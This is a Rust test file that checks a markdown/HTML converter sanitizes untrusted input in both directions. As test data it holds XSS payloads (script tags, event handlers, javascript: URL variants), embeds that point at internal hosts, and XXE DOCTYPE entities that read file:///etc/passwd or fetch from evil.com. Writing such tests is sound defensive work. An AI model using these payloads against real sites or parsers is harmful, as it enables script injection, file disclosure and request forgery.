//! Security validation tests
//!
//! Both conversion directions handle untrusted input. Rendered HTML must not
//! carry scripts, event handlers or dangerous URLs; markdown imported from
//! HTML must not resurrect them either, and entity tricks in a DOCTYPE must
//! not expand into anything.

use markdown_workbench::converter::MarkdownConverter;
use markdown_workbench::error::ConversionError;
use markdown_workbench::markdown::{HtmlOptions, markdown_to_html};
use markdown_workbench::parser::parse_html;

fn import(html: &str) -> String {
    let dom = parse_html(html);
    MarkdownConverter::new()
        .convert(&dom)
        .expect("Failed to convert")
}

fn render(markdown: &str) -> String {
    markdown_to_html(markdown, &HtmlOptions::fragment())
}

/// Script tags in raw markdown HTML are removed with their content
#[test]
fn test_xss_script_tag_removed_on_render() {
    let html = render("Hello\n\n<script>alert('XSS')</script>\n\nWorld");

    assert!(!html.contains("<script"));
    assert!(!html.contains("alert"));
    assert!(html.contains("Hello"));
    assert!(html.contains("World"));
}

/// Inline event handlers never survive rendering
#[test]
fn test_xss_event_handler_removed_on_render() {
    let html = render(
        "<div onclick=\"alert(1)\" onmouseover=\"steal()\">Click</div>\n\n<img src=\"a.png\" onerror=\"alert(2)\">",
    );

    assert!(!html.contains("onclick"));
    assert!(!html.contains("onmouseover"));
    assert!(!html.contains("onerror"));
    assert!(html.contains("Click"));
    assert!(html.contains("src=\"a.png\""));
}

/// javascript: URLs are dropped whatever their case or padding
#[test]
fn test_xss_javascript_url_variants_on_render() {
    for url in [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
    ] {
        let html = render(&format!("<a href=\"{url}\">Link</a>"));
        assert!(
            !html.to_lowercase().contains("script:"),
            "URL survived: {url} -> {html}"
        );
        assert!(html.contains("Link"));
    }
}

/// Markdown link syntax gets the same URL policy as raw HTML
#[test]
fn test_xss_markdown_link_url_on_render() {
    let html = render("[click](javascript:alert(1)) and ![x](data:text/html;base64,AAAA)");

    assert!(!html.contains("javascript:"));
    assert!(!html.contains("data:"));
    assert!(html.contains("click"));
}

/// Safe URLs are preserved
#[test]
fn test_safe_urls_preserved_on_render() {
    let html = render("[a](https://example.com/x) [b](http://example.com) [c](mailto:me@example.com) [d](docs/page.md) [e](#section)");

    assert!(html.contains("href=\"https://example.com/x\""));
    assert!(html.contains("href=\"http://example.com\""));
    assert!(html.contains("href=\"mailto:me@example.com\""));
    assert!(html.contains("href=\"docs/page.md\""));
    assert!(html.contains("href=\"#section\""));
}

/// Embedding elements are removed with their content
#[test]
fn test_ssrf_embeds_removed_on_render() {
    let html = render(
        "<iframe src=\"http://internal/admin\"></iframe>\n<object data=\"x.swf\">obj</object>\n<embed src=\"x.swf\">\n\nText",
    );

    assert!(!html.contains("<iframe"));
    assert!(!html.contains("<object"));
    assert!(!html.contains("<embed"));
    assert!(!html.contains("internal/admin"));
    assert!(html.contains("Text"));
}

/// Styles and stylesheet links cannot be injected
#[test]
fn test_style_injection_removed_on_render() {
    let html = render(
        "<style>body{display:none}</style>\n<link rel=\"stylesheet\" href=\"http://evil/x.css\">\n<p style=\"position:fixed\">p</p>",
    );

    assert!(!html.contains("<style"));
    assert!(!html.contains("<link"));
    assert!(!html.contains("style="));
}

/// Standalone export still sanitizes the body
#[test]
fn test_standalone_export_is_sanitized() {
    let html = markdown_to_html("<script>alert(1)</script>\n\n# Title", &HtmlOptions::default());

    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(!html.contains("alert(1)"));
    assert!(html.contains("<h1>Title</h1>"));
}

/// Script content never reaches imported markdown
#[test]
fn test_xss_script_tag_removal_on_import() {
    let markdown = import(
        "<html><body><h1>Title</h1><script>alert('XSS')</script><p>Content</p><script type=\"text/javascript\">var x = 1;</script></body></html>",
    );

    assert!(!markdown.contains("alert"));
    assert!(!markdown.contains("var x"));
    assert!(markdown.contains("# Title"));
    assert!(markdown.contains("Content"));
}

/// Dangerous link and image URLs are dropped on import, text is kept
#[test]
fn test_dangerous_urls_dropped_on_import() {
    let markdown = import(
        "<p><a href=\"javascript:alert(1)\">Click</a> <a href=\"JaVaScRiPt:alert(1)\">Again</a> <a href=\"data:text/html,x\">Data</a> <img src=\"javascript:alert(1)\" alt=\"pic\"> <a href=\"file:///etc/passwd\">File</a></p>",
    );

    assert!(!markdown.to_lowercase().contains("javascript"));
    assert!(!markdown.contains("data:"));
    assert!(!markdown.contains("file:"));
    assert!(markdown.contains("Click"));
    assert!(markdown.contains("Again"));
    assert!(markdown.contains("File"));
}

/// Embedding elements are removed on import
#[test]
fn test_embeds_removed_on_import() {
    let markdown = import(
        "<p>Before</p><iframe src=\"http://internal\">fallback</iframe><object data=\"x\">obj</object><embed src=\"y\"><p>After</p>",
    );

    assert!(!markdown.contains("internal"));
    assert!(!markdown.contains("fallback"));
    assert!(!markdown.contains("obj"));
    assert!(markdown.contains("Before"));
    assert!(markdown.contains("After"));
}

/// DOCTYPE entity declarations are never expanded
///
/// html5ever does not process XML external entities, so neither external
/// nor internal entities resolve.
#[test]
fn test_xxe_prevention_doctype() {
    let markdown = import(
        r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <html><body><p>&xxe;</p></body></html>"#,
    );
    assert!(!markdown.contains("/etc/passwd"));

    let markdown = import(
        r#"<!DOCTYPE foo [
        <!ENTITY % dtd SYSTEM "http://evil.com/evil.dtd">
        %dtd;
    ]>
    <html><body><p>Content</p></body></html>"#,
    );
    assert!(!markdown.contains("evil.com"));
}

/// Standard DOCTYPEs are harmless
#[test]
fn test_doctype_standard_html5() {
    let markdown = import(
        r#"<!DOCTYPE html>
    <html><body><h1>Title</h1><p>Content</p></body></html>"#,
    );

    assert_eq!(markdown, "# Title\n\nContent\n");
}

/// Pathological nesting is refused on an ordinary 2 MiB thread stack
#[test]
fn test_deep_nesting_rejected_on_import() {
    let result = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(|| {
            let html = format!("{}deep{}", "<div>".repeat(2000), "</div>".repeat(2000));
            MarkdownConverter::new().convert(&parse_html(&html))
        })
        .expect("spawn converter thread")
        .join()
        .expect("converter thread must not overflow");

    assert!(matches!(result, Err(ConversionError::InvalidInput(_))));
}
